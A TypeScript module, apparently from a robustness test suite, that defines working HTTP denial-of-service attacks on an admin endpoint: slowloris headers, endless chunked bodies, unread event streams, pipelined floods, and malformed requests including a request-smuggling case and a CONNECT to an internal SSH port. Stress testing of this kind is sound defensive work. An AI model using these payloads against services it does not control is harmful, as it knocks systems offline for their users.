import type { Attack } from './attack.ts'
import { flooding, withClients } from './tcp-attacks.ts'

const CLIENTS = 100
/** Of a console; the admin endpoint asks for none. */
const TOKEN = 'Authorization: Bearer a-token-of-attacks\r\n'

/** A byte of a request twice a second (slowloris). */
const slowHeaders: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket) => {
    socket.resume().write('GET /metrics HTTP/1.1\r\nHost: localhost\r\nX: ')
    const timer = setInterval(() => socket.write('x'), 500)
    socket.on('close', () => clearInterval(timer))
  })

/** A body that never ends, though nothing takes one. */
const endlessBody: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket) => {
    socket.resume()
    socket.write('POST /metrics HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n')
    const chunk = `4000\r\n${'x'.repeat(0x4000)}\r\n`
    const more = (): void => {
      while (!socket.destroyed && socket.write(chunk));
    }
    socket.on('drain', more)
    more()
  })

const get = (path: string, headers = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${headers}\r\n`

/** The next request with each answer. */
const metricsAgain: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket) => {
    socket.write(get('/metrics'))
    socket.on('data', () => socket.write(get('/metrics')))
  })

const STRANGE_REQUESTS = [
  // A path and a header of 100 kB; 5,000 headers.
  get(`/${'x'.repeat(100_000)}`),
  get('/', `X: ${'y'.repeat(100_000)}\r\n`),
  get('/metrics', 'A: b\r\n'.repeat(5_000)),
  // Two lengths of a body (request smuggling).
  `${get('/', 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n')}0\r\n\r\n`,
  // Other protocols, and none.
  get('/events', 'Connection: Upgrade\r\nUpgrade: websocket\r\n'),
  'CONNECT 10.77.0.1:22 HTTP/1.1\r\nHost: localhost\r\n\r\n',
  '\u0016\u0003\u0001'.repeat(1_000),
  // The identifier of an event that never was.
  get('/events', `Last-Event-ID: ${'9'.repeat(15_000)}\r\n`),
]

/** What no client of the admin endpoint says. */
const strangeRequests: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket, number) => {
    socket.resume().write(STRANGE_REQUESTS[number % STRANGE_REQUESTS.length] ?? '')
  })

/** Event streams of many browsers, none of which reads; of the admin endpoint or of the console. */
const manyStreams: Attack = (target, signal) =>
  withClients(target, signal, 1_000, (socket, number) => {
    socket.pause().write(get(number % 2 === 0 ? '/events' : '/api/stream', TOKEN))
  })

const PATHS = ['/metrics', '/api/services', '/', '/events', '/api/events?limit=1000', '/options']

export const httpAttacks: Readonly<Record<string, Attack>> = {
  slowHeaders,
  endlessBody,
  metricsAgain,
  strangeRequests,
  manyStreams,
  /** Requests without a pause, whose answers are never read (RFC 9112, section 9.3.2). */
  pipelined: flooding(PATHS.map((path) => get(path, TOKEN)).join('')),
}
